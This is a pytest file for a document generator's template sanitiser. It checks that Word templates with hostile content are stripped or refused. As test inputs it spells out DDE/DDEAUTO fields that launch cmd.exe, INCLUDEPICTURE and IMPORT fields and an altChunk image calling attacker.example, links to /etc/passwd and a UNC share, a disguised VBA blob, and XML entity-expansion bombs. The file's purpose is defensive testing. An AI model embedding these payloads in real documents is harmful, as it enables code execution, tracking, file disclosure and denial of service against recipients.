"""Class 2: templates that reach outside the file. Field codes that fetch or run something,
altChunk parts, VBA under another name, references to dropped external relationships and
DOCTYPE/entity declarations anywhere are refused or removed, in a theme's Word template and in
a fill-in template alike."""

from __future__ import annotations

import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import docx
import pytest
from docx.opc.constants import RELATIONSHIP_TYPE as RT

from generator.cli import main
from generator.package_cleaning import instruction_is_safe
from generator.theme import DEFAULT_THEME, TEMPLATES_DIR

from ..conftest import ENGLISH

FILL = TEMPLATES_DIR / "examples" / "briefing-fill.docx"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
HOSTILE_FIELDS = [
    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"',
    'DDE "cmd" "/c calc" "x"',
    'INCLUDEPICTURE "http://attacker.example/track.png" \\d',
    'INCLUDETEXT "c:\\\\secret.txt"',
    'HYPERLINK "file:///c:/windows/system32/calc.exe"',
    'HYPERLINK "\\\\\\\\attacker\\\\share\\\\x"',
    'LINK Excel.Sheet.8 "c:\\\\x.xls" "Sheet1!R1C1"',
    'IMPORT "http://attacker.example/x.wmf"',
    'AUTOOPEN',
    'MACROBUTTON Evil Click',
    'DATABASE \\d "c:\\\\x.mdb"',
]


def zip_with(source: Path, replace: dict[str, bytes] | None = None,
             add: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = (replace or {}).get(info.filename, src.read(info))
            dst.writestr(info.filename, data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def body_with(source: Path, xml: str) -> bytes:
    """The document with `xml` (paragraphs in the w and r namespaces) at the end of its
    body."""
    with zipfile.ZipFile(source) as src:
        document = src.read("word/document.xml").decode("utf-8")
    if "xmlns:r=" not in document.split(">", 2)[1]:
        document = document.replace("<w:document ", f"<w:document {R} ", 1)
    document = re.sub(r"(<w:sectPr[ >])", lambda m: xml + m.group(1), document, count=1)
    return document.encode("utf-8")


def field_paragraphs(instruction: str) -> str:
    simple = (f'<w:p><w:fldSimple w:instr="{instruction.replace(chr(34), "&quot;")}">'
              "<w:r><w:t>simple-result</w:t></w:r></w:fldSimple></w:p>")
    complex_ = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
                f'<w:r><w:instrText xml:space="preserve"> {instruction[:12]}</w:instrText></w:r>'
                f'<w:r><w:instrText xml:space="preserve">{instruction[12:]} </w:instrText></w:r>'
                '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                "<w:r><w:t>complex-result</w:t></w:r>"
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
    return simple + complex_


def theme_with(tmp_path: Path, docx_bytes: bytes) -> Path:
    folder = tmp_path / "theme"
    folder.mkdir(parents=True, exist_ok=True)
    shutil.copyfile(TEMPLATES_DIR / "default.pptx", folder / "default.pptx")
    (folder / "default.docx").write_bytes(docx_bytes)
    shutil.copyfile(DEFAULT_THEME, folder / "theme.yaml")
    return folder / "theme.yaml"


def parts_text(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return "\n".join(archive.read(n).decode("utf-8", "replace") for n in archive.namelist())


def audit(path: Path) -> None:
    exe = shutil.which("openxml-audit")
    assert exe, "openxml-audit is not installed"
    result = subprocess.run([exe, str(path)], capture_output=True, text=True)
    assert result.returncode == 0 and "Errors: 0" in result.stdout, result.stdout[-2000:]


def outputs(tmp_path: Path, template_bytes: bytes) -> list[Path]:
    """The template used as a theme's Word template (a build) and as a fill-in template."""
    theme = theme_with(tmp_path, template_bytes)
    assert main(["build", str(ENGLISH), "--theme", str(theme), "--format", "docx",
                 "--report", "briefing", "--out", str(tmp_path / "o"), "--jobs", "1"]) == 0
    fill_template = tmp_path / "fill.docx"
    fill_template.write_bytes(template_bytes)
    assert main(["fill", str(fill_template), "--out", str(tmp_path / "filled.docx")]) == 0
    return [tmp_path / "o" / "riverside-digital-2021-briefing.docx", tmp_path / "filled.docx"]


@pytest.mark.slow
@pytest.mark.parametrize("instruction", HOSTILE_FIELDS, ids=lambda i: i.split()[0])
def test_fields_that_reach_outside_never_reach_the_output(tmp_path, instruction):
    for source in (TEMPLATES_DIR / "default.docx", FILL):
        data = zip_with(source, {"word/document.xml": body_with(source, field_paragraphs(
            instruction))})
        for output in outputs(tmp_path / source.stem, data):
            text = parts_text(output)
            keyword = instruction.split()[0]
            assert not re.search(rf"instr(?:Text[^>]*>|=\")\s*{keyword}\b", text), output
            assert "calc" not in text and "attacker" not in text and "secret" not in text
            if output.name == "filled.docx":
                assert "simple-result" in text and "complex-result" in text  # shown text kept


def test_the_field_allow_list():
    assert all(not instruction_is_safe(i) for i in HOSTILE_FIELDS)
    for safe in ("PAGE", " NUMPAGES \\* MERGEFORMAT", 'HYPERLINK "https://example.org"',
                 "HYPERLINK \\l bookmark", "TOC \\o 1-3", "REF _Ref1 \\h", "=2+2"):
        assert instruction_is_safe(safe), safe


def test_a_theme_template_with_fields_builds_without_them(tmp_path):
    source = TEMPLATES_DIR / "default.docx"
    data = zip_with(source, {"word/document.xml": body_with(source, "".join(
        field_paragraphs(i) for i in HOSTILE_FIELDS))})
    theme = theme_with(tmp_path, data)

    assert main(["build", str(ENGLISH), "--theme", str(theme), "--format", "docx",
                 "--report", "briefing", "--out", str(tmp_path / "o"), "--jobs", "1"]) == 0

    text = parts_text(tmp_path / "o" / "riverside-digital-2021-briefing.docx")
    assert "DDE" not in text and "INCLUDE" not in text and "file:///" not in text


def with_alt_chunk(source: Path) -> bytes:
    rels = zipfile.ZipFile(source).read("word/_rels/document.xml.rels").decode()
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdAlt1" Type="http://schemas.'
                        'openxmlformats.org/officeDocument/2006/relationships/aFChunk" '
                        'Target="evil.html"/></Relationships>')
    types = zipfile.ZipFile(source).read("[Content_Types].xml").decode()
    types = types.replace("</Types>", '<Override PartName="/word/evil.html" '
                          'ContentType="text/html"/></Types>')
    return zip_with(source, {"word/document.xml": body_with(source, f'<w:altChunk {R} '
                                                            'r:id="rIdAlt1"/>'),
                             "word/_rels/document.xml.rels": rels.encode(),
                             "[Content_Types].xml": types.encode()},
                    {"word/evil.html": b"<html><body><img src='http://attacker.example/x'>"
                                       b"</body></html>"})


def test_an_alt_chunk_never_survives(tmp_path):
    for output in outputs(tmp_path, with_alt_chunk(FILL)):
        text = parts_text(output)
        assert "altChunk" not in text and "attacker" not in text and "aFChunk" not in text
        audit(output)


def with_external_links(source: Path, tmp_path: Path) -> bytes:
    document = docx.Document(source)
    link = document.part.relate_to("file:///etc/passwd", RT.HYPERLINK, is_external=True)
    picture = document.part.relate_to("http://attacker.example/p.png", RT.IMAGE,
                                      is_external=True)
    xml = (f'<w:p><w:hyperlink r:id="{link}"><w:r><w:t>link text</w:t></w:r></w:hyperlink></w:p>')
    path = tmp_path / "ext.docx"
    document.save(path)
    data = zip_with(path, {"word/document.xml": body_with(path, xml)})
    assert picture
    return data


def test_references_to_dropped_external_relationships_go_too(tmp_path):
    for output in outputs(tmp_path, with_external_links(FILL, tmp_path)):
        text = parts_text(output)
        assert 'TargetMode="External"' not in text and "etc/passwd" not in text
        assert "attacker" not in text
        ids = set(re.findall(r'Id="(rId\d+)"', text))
        used = set(re.findall(r'r:(?:id|embed|link)="([^"]+)"', text))
        assert used <= ids, used - ids
        audit(output)


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 200 + "_VBA_PROJECT".encode("utf-16-le")
LONG_COMMENT = b"<!--" + b"x" * 10_000 + b"-->"
BOMB = (b'<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;'
        b'&lol;&lol;&lol;&lol;">]>')


def _types_renamed(source: Path) -> bytes:
    types = zipfile.ZipFile(source).read("[Content_Types].xml").decode()
    return types.replace('PartName="/word/document.xml"', 'PartName="/word/document.dat"').encode()


def _rels_renamed(source: Path) -> bytes:
    return zipfile.ZipFile(source).read("_rels/.rels").replace(b"word/document.xml",
                                                               b"word/document.dat")


def _renamed_main_with_bomb(source: Path) -> bytes:
    main_xml = zipfile.ZipFile(source).read("word/document.xml")
    out = io.BytesIO()
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            if info.filename == "word/document.xml":
                dst.writestr("word/document.dat", main_xml.replace(b"?>", b"?>" + BOMB, 1))
            elif info.filename == "[Content_Types].xml":
                dst.writestr(info.filename, _types_renamed(source))
            elif info.filename == "_rels/.rels":
                dst.writestr(info.filename, _rels_renamed(source))
            else:
                dst.writestr(info.filename, src.read(info))
    return out.getvalue()


def _document(source: Path) -> bytes:
    return zipfile.ZipFile(source).read("word/document.xml")


REFUSED = {
    "vba-under-another-name": (lambda s: zip_with(s, add={"word/media/image99.png": OLE}),
                               "VBA"),
    "bomb-after-a-long-comment": (lambda s: zip_with(s, {"word/document.xml": _document(s)
                                  .replace(b"?>", b"?>" + LONG_COMMENT + BOMB, 1)}), "DOCTYPE"),
    "bomb-in-a-main-part-named-dat": (_renamed_main_with_bomb, "DOCTYPE"),
    "bomb-in-utf16": (lambda s: zip_with(s, {"word/styles.xml": (
        '<?xml version="1.0" encoding="UTF-16"?>' + BOMB.decode() + "<w:styles " + W + "/>"
    ).encode("utf-16")}), "DOCTYPE"),
    "bomb-in-a-rels-part-late": (lambda s: zip_with(s, {"word/_rels/document.xml.rels": (
        b'<?xml version="1.0"?>' + b"<!--" + b"y" * 70_000 + b"-->" + BOMB + b"<x/>")}),
        "DOCTYPE"),
}


@pytest.mark.parametrize("case", sorted(REFUSED))
def test_hostile_packages_are_refused_with_exit_2(tmp_path, capsys, case):
    make, message = REFUSED[case]
    for source in (TEMPLATES_DIR / "default.docx", FILL):
        data = make(source)
        theme = theme_with(tmp_path / source.stem, data)
        fill_template = tmp_path / source.stem / "fill.docx"
        fill_template.write_bytes(data)

        codes = [main(["build", str(ENGLISH), "--theme", str(theme), "--format", "docx",
                       "--out", str(tmp_path / "o"), "--jobs", "1"]),
                 main(["fill", str(fill_template), "--out", str(tmp_path / "f.docx")]),
                 main(["check-template", str(fill_template)])]

        err = capsys.readouterr().err
        assert codes == [2, 2, 2], err
        assert message in err and "Traceback" not in err
        assert not (tmp_path / "f.docx").exists()
        assert not (tmp_path / "o").exists() or not any((tmp_path / "o").glob("*.docx"))
